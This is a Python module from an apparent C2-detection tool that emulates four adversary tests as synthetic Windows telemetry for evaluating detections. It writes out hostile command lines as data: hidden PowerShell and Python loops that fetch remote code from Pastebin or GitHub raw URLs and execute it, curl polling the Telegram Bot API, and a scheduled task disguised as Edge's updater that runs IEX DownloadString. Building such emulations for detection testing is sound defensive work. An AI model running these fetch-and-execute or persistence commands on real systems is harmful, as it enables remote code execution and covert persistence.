"""The specification's four adversary tests ("Testing Methodology"), as telemetry.

The URLs, commands and task name below are the tests' own content; services, binaries and task
hosts come from the knowledge. Each function returns the test's ground truth.
"""

from __future__ import annotations

from datetime import timedelta

from c2hunt.emulate.host import Host
from c2hunt.emulate.model import Process
from c2hunt.emulate.world import Scenario, World

VICTIM = "WS-ARGUS-01"
VICTIM_USER = "CORP\\m.keller"
TEMP = "C:\\Users\\m.keller\\AppData\\Local\\Temp"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
PYTHON = "C:\\Users\\m.keller\\AppData\\Local\\Programs\\Python\\Python312\\python.exe"
CURL = "C:\\Windows\\System32\\curl.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
SCHTASKS = "C:\\Windows\\System32\\schtasks.exe"
TASK_NAME = "MicrosoftEdgeUpdateTaskMachineUA_ARGUSTEST"
TASK_CACHE = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache"


def _shell(world: World, hours: float) -> tuple[Host, Process]:
    host = world.host(VICTIM, VICTIM_USER, audit=True)
    explorer = world.standing[VICTIM].explorer
    cmd = host.spawn(explorer, CMD, f'"{CMD}" ', world.at(hours, 2), cwd="C:\\Users\\m.keller\\")
    return host, cmd


def pastebin_powershell(world: World) -> Scenario:
    """Test 1: hidden PowerShell fetching a Pastebin raw paste and running it, every minute."""
    host, cmd = _shell(world, 1.6)
    pastebin = world.domain("pastebin.com")
    paste = "".join(
        world.rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789")
        for _ in range(8)
    )
    script = (
        "while ($true) { $c = (Invoke-WebRequest -Uri "
        f"'https://{pastebin}/raw/{paste}' -UseBasicParsing).Content; "
        "Invoke-Expression $c; Start-Sleep -Seconds 60 }"
    )
    at = cmd.started + timedelta(seconds=world.rng.uniform(5, 40))
    ps = host.spawn(
        cmd, POWERSHELL, f'powershell.exe -NoProfile -WindowStyle Hidden -Command "{script}"', at
    )
    host.script_block(ps, script, at + timedelta(milliseconds=420))
    for poll in range(3):
        when = at + timedelta(seconds=1.2 + 60 * poll + world.rng.uniform(0, 0.8))
        host.connect(ps, pastebin, when)
        host.script_block(
            ps,
            "Get-ComputerInfo -Property CsName, OsVersion | Out-String",
            when + timedelta(milliseconds=350),
        )
    return Scenario(
        "test1_pastebin_powershell",
        "test",
        "Test 1: PowerShell C2 polling via Pastebin raw URL",
        (VICTIM,),
        (ps.guid,),
        (pastebin,),
        ("script_block_fetch_exec", "polling", "url_in_command_line"),
    )


def github_python(world: World) -> Scenario:
    """Test 2: Python polling GitHub raw content three times, about 30 seconds apart."""
    host, cmd = _shell(world, 2.4)
    raw = "raw." + world.domain("githubusercontent.com")
    url = f"https://{raw}/argus-lab/c2-test/main/commands.txt"
    code = (
        "import urllib.request, time; "
        f"[(exec(urllib.request.urlopen('{url}').read().decode()), time.sleep(30)) "
        "for _ in range(3)]"
    )
    at = cmd.started + timedelta(seconds=world.rng.uniform(5, 40))
    py = host.spawn(cmd, PYTHON, f'"{PYTHON}" -c "{code}"', at)
    when = at + timedelta(milliseconds=world.rng.randint(300, 700))
    for _ in range(3):
        host.connect(py, raw, when)
        when += timedelta(seconds=30 + world.rng.uniform(0.1, 0.6))
    return Scenario(
        "test2_github_python",
        "test",
        "Test 2: Python polling GitHub raw content for commands",
        (VICTIM,),
        (py.guid,),
        (raw,),
        ("polling", "url_in_command_line"),
    )


def telegram_curl(world: World) -> Scenario:
    """Test 3: curl silently fetching Telegram Bot API updates into a response file."""
    host, cmd = _shell(world, 3.1)
    api = world.domain("api.telegram.org")
    token = f"{world.rng.randint(10**9, 10**10 - 1)}:AA" + "".join(
        world.rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-")
        for _ in range(33)
    )
    response = f"{TEMP}\\tg_response.txt"
    at = cmd.started + timedelta(seconds=world.rng.uniform(5, 40))
    command = f"curl.exe -s -o {response} https://{api}/bot{token}/getUpdates"
    curl = host.spawn(cmd, CURL, command, at)
    host.connect(curl, api, at + timedelta(milliseconds=world.rng.randint(40, 120)))
    host.create_file(curl, response, at + timedelta(milliseconds=world.rng.randint(400, 900)))
    return Scenario(
        "test3_telegram_curl",
        "test",
        "Test 3: curl silent polling of the Telegram Bot API",
        (VICTIM,),
        (curl.guid,),
        (api,),
        ("response_file", "url_in_command_line"),
    )


def task_content(command: str, arguments: str, author: str) -> str:
    """A scheduled task definition as Security 4698 records it in TaskContent."""
    return (
        '<?xml version="1.0" encoding="UTF-16"?>\r\n'
        '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n'
        f"  <RegistrationInfo>\r\n    <Author>{author}</Author>\r\n"
        f"    <URI>\\{TASK_NAME}</URI>\r\n  </RegistrationInfo>\r\n"
        "  <Triggers>\r\n    <TimeTrigger>\r\n      <Repetition>\r\n"
        "        <Interval>PT5M</Interval>\r\n        <StopAtDurationEnd>false</StopAtDurationEnd>"
        "\r\n      </Repetition>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>\r\n"
        '  </Triggers>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n'
        f"      <Command>{command}</Command>\r\n      <Arguments>{arguments}</Arguments>\r\n"
        "    </Exec>\r\n  </Actions>\r\n</Task>"
    )


def scheduled_task(world: World) -> Scenario:
    """Test 4: a scheduled task, disguised as Edge's updater, polling GitHub every 5 minutes."""
    host, cmd = _shell(world, 3.6)
    standing = world.standing[VICTIM]
    raw = "raw." + world.domain("githubusercontent.com")
    url = f"https://{raw}/argus-lab/c2-test/main/task.ps1"
    fetch = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
    arguments = f'-NoProfile -WindowStyle Hidden -Command "{fetch}"'
    at = cmd.started + timedelta(seconds=world.rng.uniform(5, 40))
    action = "powershell.exe " + arguments.replace('"', '\\"')
    create = f'schtasks.exe /Create /TN {TASK_NAME} /TR "{action}" /SC MINUTE /MO 5 /F'
    schtasks = host.spawn(cmd, SCHTASKS, create, at, integrity="High")
    host.task_created(
        schtasks,
        f"\\{TASK_NAME}",
        task_content("powershell.exe", arguments, VICTIM_USER),
        at + timedelta(milliseconds=180),
    )
    task_id = "{" + host.guid_text() + "}"
    host.set_registry(
        standing.schedule,
        f"{TASK_CACHE}\\Tree\\{TASK_NAME}\\Id",
        task_id,
        at + timedelta(milliseconds=190),
    )
    host.set_registry(
        standing.schedule,
        f"{TASK_CACHE}\\Tasks\\{task_id}\\Path",
        f"\\{TASK_NAME}",
        at + timedelta(milliseconds=195),
    )
    task_host = next(h for h in world.knowledge.task_hosts if h == "taskhostw.exe")
    first_run = at + timedelta(minutes=5, milliseconds=world.rng.randint(0, 400))
    taskhostw = host.spawn(
        standing.schedule,
        f"C:\\Windows\\System32\\{task_host}",
        f"{task_host} Install $(Arg0)",
        first_run - timedelta(milliseconds=60),
        user=VICTIM_USER,
        integrity="Medium",
    )
    runs = []
    second_run = first_run + timedelta(minutes=5, milliseconds=world.rng.randint(0, 400))
    for parent, when in ((standing.schedule, first_run), (taskhostw, second_run)):
        ps = host.spawn(
            parent,
            POWERSHELL,
            f"powershell.exe {arguments}",
            when,
            user=VICTIM_USER,
            integrity="Medium",
            cwd="C:\\Windows\\system32\\",
        )
        host.script_block(ps, fetch, when + timedelta(milliseconds=380))
        host.connect(ps, raw, when + timedelta(milliseconds=world.rng.randint(600, 900)))
        runs.append(ps.guid)
    return Scenario(
        "test4_scheduled_task",
        "test",
        "Test 4: scheduled task simulating periodic web service C2 poll",
        (VICTIM,),
        tuple(runs),
        (raw,),
        ("scheduled_task", "task_host_spawn", "script_block_fetch_exec", "is_service_spawn"),
    )


TESTS = (pastebin_powershell, github_python, telegram_curl, scheduled_task)
